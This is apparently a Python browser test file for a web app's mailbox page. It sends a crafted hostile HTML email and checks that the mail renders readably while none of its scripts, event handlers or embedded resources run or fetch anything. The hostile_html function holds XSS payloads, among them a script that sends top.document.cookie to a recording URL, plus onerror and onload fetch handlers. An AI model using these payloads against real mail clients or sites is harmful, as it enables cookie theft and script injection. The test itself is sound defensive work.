"""In Chromium: a hostile mail in the Postfach runs no script and fetches nothing, and its text is readable."""

from __future__ import annotations

import shutil
import smtplib
import threading
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from sqlalchemy.orm import Session

from core.auth import service as auth
from core.communication.catcher import MailCatcher
from core.config import get_settings
from tests.e2e.conftest import login, screenshot
from tests.support.postgres import free_port

pytestmark = pytest.mark.browser
PASSWORD = "ein langes passwort"


class Recorder(BaseHTTPRequestHandler):
    """Any request here means the mail reached out of its frame."""

    hits: list[str] = []

    def do_GET(self) -> None:
        Recorder.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listener():
    """A local HTTP server that records every request the hostile mail would make: its base URL."""
    Recorder.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def hostile_html(base: str) -> str:
    return f"""<html><head><script>
      parent.document.title = "pwned"; top.document.body.setAttribute("data-pwned", "script");
      fetch("{base}/script?cookie=" + encodeURIComponent(top.document.cookie));
    </script></head><body>
      <p>Sehr geehrte Damen und Herren, bitte lesen Sie diese wichtige Nachricht.</p>
      <img src="{base}/image.png" onerror="top.document.body.setAttribute('data-pwned', 'onerror');
           fetch('{base}/onerror')">
      <img src="x" onerror="top.document.body.setAttribute('data-pwned', 'onerror2'); fetch('{base}/onerror2')">
      <svg onload="fetch('{base}/svg')"></svg>
      <link rel="stylesheet" href="{base}/style.css">
      <iframe src="{base}/frame"></iframe>
    </body></html>"""


def send_hostile_mail(base: str) -> None:
    """A local user drops the mail into the catcher, which accepts mail from anyone on the machine."""
    mailbox = get_settings().data_dir / "mailbox"
    shutil.rmtree(mailbox, ignore_errors=True)
    catcher = MailCatcher(mailbox, port=free_port())
    catcher.start()
    try:
        message = EmailMessage()
        message["From"] = "mallory@example.org"
        message["To"] = "team@example.org"
        message["Subject"] = "Dringend: Rückfrage"
        message.set_content("Sehr geehrte Damen und Herren, bitte lesen Sie diese wichtige Nachricht.")
        message.add_alternative(hostile_html(base), subtype="html")
        with smtplib.SMTP("127.0.0.1", catcher.controller.port, timeout=10) as smtp:
            smtp.send_message(message)
    finally:
        catcher.stop()


def shown_in_a_frame(page, text: str) -> bool:
    """Wait until a frame of the page shows ``text``; whichever frame the page renders the mail in."""
    for _ in range(60):
        for frame in page.frames[1:]:
            try:
                if text in frame.inner_text("body", timeout=1_000):
                    return True
            except Exception:  # noqa: S112 - a frame still loading or gone; look again
                continue
        page.wait_for_timeout(500)
    return False


def test_mailbox__hostile_mail_runs_no_script_and_fetches_nothing(page, streamlit_app, committed_db, listener):
    with Session(committed_db) as session:
        auth.create_user(session, email="sam@example.org", role="staff", password=PASSWORD)
        session.commit()
    send_hostile_mail(listener)

    login(page, f"{streamlit_app}/mailbox", "sam@example.org", PASSWORD)
    page.get_by_role("heading", name="Dringend: Rückfrage").wait_for(timeout=60_000)  # the newest mail opens
    readable = shown_in_a_frame(page, "bitte lesen Sie diese wichtige Nachricht")
    page.wait_for_timeout(2_000)  # give any script, image or error handler the time it would need
    page.locator("iframe").last.scroll_into_view_if_needed()
    page.wait_for_timeout(1_000)  # the frame repaints after scrolling
    screenshot(page, "mailbox-hostile-mail")

    assert readable
    assert page.evaluate("document.body.getAttribute('data-pwned')") is None
    assert page.title() != "pwned"
    assert Recorder.hits == []
    assert page.outside_requests == []


def test_queued_mail_in_browser__staff_read_it_before_it_goes_out(page, streamlit_app, committed_db):
    import uuid

    from core.communication.models import Email

    shutil.rmtree(get_settings().data_dir / "mailbox", ignore_errors=True)
    with Session(committed_db) as session:
        auth.create_user(session, email="sam@example.org", role="staff", password=PASSWORD)
        session.add(Email(template="status_update", to_address="lea@example.org", subject="Stand Ihrer Suche",
                          body_text="Guten Tag,\n\nIhre Suche läuft weiter.", body_html="<p>Guten Tag,</p>",
                          message_id=f"<{uuid.uuid4().hex}@workbench.example.org>"))  # fmt: skip
        session.commit()
    login(page, f"{streamlit_app}/mailbox", "sam@example.org", PASSWORD)
    page.get_by_text("Noch nicht gesendete Mails").wait_for(timeout=60_000)
    page.get_by_text("Ihre Suche läuft weiter.").wait_for(timeout=60_000)
    page.get_by_text("Noch nicht gesendete Mails").scroll_into_view_if_needed()
    screenshot(page, "mailbox-queued-mail")
